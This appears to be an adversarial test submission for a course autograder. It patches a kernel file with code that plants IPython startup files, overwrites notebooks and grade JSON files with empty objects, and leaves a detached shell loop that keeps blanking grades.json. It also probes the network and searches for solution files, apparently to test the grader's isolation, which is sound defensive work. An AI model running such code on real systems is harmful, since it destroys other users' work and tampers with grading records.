# Tries to harm the students graded after it: IPython startup files in HOME, writes into the course checkout,
# the grading template and every notebook under $COURSE_TEST_ATTACK_ROOT, a process left behind that keeps
# rewriting grades.json and records, a planted resume record for a friend, the network, and a look at
# solutions/. Its own (correct) kernel is graded normally; nobody else changes.
#%% add from-solution
#%%- replace
BLOCK = 1024  # elements per program: a power of two (tl.arange needs one), large enough to amortise a program
#%%- with
BLOCK = 1024
import glob as _glob
import json as _json
import os as _os
import pathlib as _pl
import socket as _socket
import subprocess as _sp

SEEN = {}
for _target in [_pl.Path.home() / ".ipython/profile_default/startup/00-own.py", _pl.Path("/work/main/utils/checks.py"),
                _pl.Path(_os.environ.get("COURSE_TEST_ATTACK_ROOT", "/nonexistent")) / "planted.py"]:
    try:
        _target.parent.mkdir(parents=True, exist_ok=True)
        _target.write_text("import builtins; builtins.OWNED = True\n")
        SEEN[str(_target)] = "written"
    except OSError as _e:
        SEEN[str(_target)] = type(_e).__name__
_root = _os.environ.get("COURSE_TEST_ATTACK_ROOT", "/tmp")
for _p in _glob.glob(_root + "/**/*.ipynb", recursive=True) + _glob.glob(_root + "/**/*.json", recursive=True) + \
        _glob.glob("/tmp/course-grading-*/**/*", recursive=True):
    try:
        _pl.Path(_p).write_text("{}")
        SEEN[_p] = "written"
    except OSError:
        pass
_sp.Popen(["sh", "-c", f"while true; do for f in $(find {_root} / -name 'grades.json' -o -name '*.ipynb' 2>/dev/null); do echo '{{}}' > $f; "
           "done; sleep 0.2; done"], start_new_session=True)
try:
    _socket.create_connection(("127.0.0.1", 22), timeout=1)
    SEEN["network"] = "reached"
except OSError as _e:
    SEEN["network"] = type(_e).__name__
SEEN["solutions"] = _glob.glob("/**/solutions/*", recursive=False)
